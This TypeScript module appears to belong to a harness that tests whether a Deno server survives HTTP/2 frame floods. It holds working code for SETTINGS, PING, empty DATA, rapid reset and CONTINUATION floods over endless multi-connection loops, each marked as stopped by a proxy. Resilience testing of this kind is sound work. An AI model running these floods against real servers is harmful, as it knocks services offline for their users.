// Floods of frames of HTTP/2 that are no request. The program never sees them: Deno's server deals with them, before the event loop or in
// its place. A proxy that speaks HTTP/1.1 to the program lets none through.
import { Buffer } from "node:buffer";
import { type Attack, type Attacker, write } from "../attacker.ts";
import { FLAG, FRAME, frame, preface } from "../http2.ts";

/** Connections that send frames. */
const CONNECTIONS = 4;

/** Frames that are sent in one piece. */
const AT_ONCE = 2_000;

/** Bytes of each CONTINUATION. */
const CONTINUATION_BYTES = 100;

const PROXY = "A proxy speaks HTTP/1.1 to the program.";

/** Sends `beginning`, and then pieces without an end, each the next; what comes is read and thrown away. */
function frames(
  pieceOf: (attacker: Attacker, n: number) => Uint8Array,
  beginning?: (attacker: Attacker) => Uint8Array,
): Attack["begin"] {
  return (attacker) =>
    attacker.open(CONNECTIONS, async (connection) => {
      const reading = drain(connection);
      reading.catch(() => {});
      await write(connection, Buffer.concat([preface(), beginning?.(attacker) ?? Buffer.alloc(0)]));
      for (let n = 0;; n++) {
        await Promise.race([write(connection, pieceOf(attacker, n)), reading]);
        attacker.count("pieces sent");
      }
    });
}

async function drain(connection: Deno.Conn): Promise<never> {
  const piece = new Uint8Array(16_384);
  while (await connection.read(piece));
  throw new Error("The connection was closed");
}

function many(frame: Uint8Array): Uint8Array {
  return Buffer.concat(Array(AT_ONCE).fill(frame));
}

/** An unfinished request. */
function begun(attacker: Attacker, flags: number, stream = 1): Buffer {
  const [block] = attacker.streamOf({ method: "POST", path: "/rooms/flood/messages" });
  return frame(FRAME.headers, flags, stream, block);
}

const settings = many(frame(FRAME.settings, 0, 0));
const pings = many(frame(FRAME.ping, 0, 0, new Uint8Array(8)));
const empty = many(frame(FRAME.data, 0, 1));
const continuations = many(frame(FRAME.continuation, 0, 1, new Uint8Array(CONTINUATION_BYTES)));

/** The attacks. */
export const frameFloods: readonly Attack[] = [
  { name: "floods: SETTINGS of HTTP/2", stoppedBy: "proxy", how: PROXY, begin: frames(() => settings) },
  { name: "floods: PING of HTTP/2", stoppedBy: "proxy", how: PROXY, begin: frames(() => pings) },
  {
    name: "floods: empty DATA of HTTP/2",
    stoppedBy: "proxy",
    how: PROXY,
    begin: frames(() => empty, (attacker) => begun(attacker, FLAG.endHeaders)),
  },
  {
    name: "floods: rapid reset of HTTP/2",
    stoppedBy: "proxy",
    how: PROXY,
    begin: frames((attacker, n) => {
      const streams = Array.from({ length: 100 }, (_, i) => 1 + 2 * (100 * n + i));
      const cancel = new Uint8Array([0, 0, 0, 8]);
      return Buffer.concat(
        streams.flatMap((stream) => [begun(attacker, FLAG.endHeaders, stream), frame(FRAME.reset, 0, stream, cancel)]),
      );
    }),
  },
  {
    name: "floods: CONTINUATION of HTTP/2",
    stoppedBy: "proxy",
    how: PROXY,
    begin: frames(() => continuations, (attacker) => begun(attacker, 0)),
  },
];
